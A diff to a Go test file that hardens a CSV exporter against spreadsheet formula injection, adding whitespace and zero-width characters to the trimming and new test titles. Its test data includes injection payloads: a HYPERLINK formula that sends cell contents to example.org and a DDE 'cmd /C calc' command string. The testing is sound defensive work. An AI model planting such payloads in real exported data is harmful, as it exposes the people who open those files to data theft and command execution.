@@ -154,7 +154,7 @@ func number(t testing.TB, s string) int {
 // exactText takes off the apostrophes that keep a cell from being run.
 func exactText(cell string) (exact string) {
 	for dangers := "=+-@\t\r\n＝＋－＠"; cell != ""; dangers = "=+-@＝＋－＠" {
-		if rest := strings.TrimLeft(cell, "'\""); cell[0] == '\'' && rest != "" && strings.ContainsRune(dangers, []rune(rest)[0]) {
+		if rest := strings.TrimLeft(cell, "'\" \u00a0\u200b\v"); cell[0] == '\'' && rest != "" && strings.ContainsRune(dangers, []rune(rest)[0]) {
 			cell = cell[1:]
 		}
 		end := strings.IndexAny(cell, ",;\t\r\n") + 1
@@ -230,7 +230,7 @@ func TestCSVFormulas(t *testing.T) {
 	for _, title := range []string{
 		`=HYPERLINK("http://example.org?"&A1,"x")`, "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "x=1", "'x", "'", "",
 		"a \"b\", c;\nd", " =1", "a;=2+5;b", "x;=1+1;", "x,-1", "x;'=1", "x;\"=1+1;", "\"=1\"", "\"'=1", "x\n@SUM(1)", "x\t＝1", "＋1", "－1", "＠x", ";;=1,,+1", // B9, K9
-		"x;\n=1", "1;\"\"", "a, b; c",
+		"x;\n=1", "1;\"\"", "a, b; c", "\u00a0=1", "\u200b =1", "x; =1", "x,\u00a0' @x", " \t=1",
 	} {
 		for _, c := range []plenary.CSV{{}, {Semicolon: true}, {ByteOrderMark: true}, {Semicolon: true, ByteOrderMark: true}} {
 			r := plenary.Resolution{Title: plenary.Text{EN: title}, Stages: []plenary.Stage{{ID: title, Detail: plenary.Text{EN: title}}}}
@@ -243,7 +243,7 @@ func TestCSVFormulas(t *testing.T) {
 				t.Errorf("begins with %q", text[:1])
 			}
 			for _, part := range strings.FieldsFunc(text, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
-				if part = strings.TrimLeft(part, `"`); part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
+				if part = strings.TrimLeft(part, "\" \u00a0\u200b"); part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
 					t.Errorf("%q: %q runs", title, part)
 				}
 			}
